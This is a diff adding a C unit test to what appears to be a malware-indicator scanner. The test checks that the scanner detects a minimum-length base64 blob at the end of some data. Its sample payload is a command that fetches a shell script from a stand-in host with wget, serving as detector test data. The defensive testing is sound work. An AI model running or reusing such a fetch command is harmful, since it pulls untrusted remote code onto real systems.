@@ -620,6 +620,33 @@ Test(iocs, base64_payload_over_budget_decoded_in_part) {
     free(raw);
 }
 
+/* A blob of the least length (MS_BASE64_MIN_CHARS characters) is found at
+ * the very end of the data, after words the search skips over, and one
+ * character fewer is not a blob. */
+Test(iocs, base64_blob_of_the_least_length_at_the_end) {
+    static const char plain[] = "wget -q http://x.example/a.sh;"; /* 30 bytes: 40 characters */
+    cr_assert_eq(strlen(plain), MS_BASE64_MIN_CHARS / 4 * 3);
+    char *text = NULL;
+    size_t n = 0;
+    FILE *f = open_memstream(&text, &n);
+    fputs("echo it is run so: ", f);
+    ms_base64_write(f, (const uint8_t *)plain, strlen(plain));
+    fclose(f);
+    cr_assert_eq(n, 19 + MS_BASE64_MIN_CHARS);
+    for (size_t cut = 0; cut < 2; cut++) {
+        blobs b = {0};
+        cr_assert_eq(ms_base64_blobs((const uint8_t *)text, n - cut, on_blob, &b), 0);
+        cr_assert_eq(b.calls, cut ? 0 : 1, "%zu characters: %zu blobs", MS_BASE64_MIN_CHARS - cut, b.calls);
+        if (!cut) {
+            cr_assert_eq(b.offsets[0], 19);
+            cr_assert_eq(b.first_len, strlen(plain));
+            cr_assert(!memcmp(b.first, plain, strlen(plain)));
+        }
+        free(b.first);
+    }
+    free(text);
+}
+
 /* The reader of blobs and the writer of path_b64 agree on every one of
  * the 64 characters: a script encoded by ms_base64_write, ending in 64
  * groups that each repeat one character value, is found and decoded back
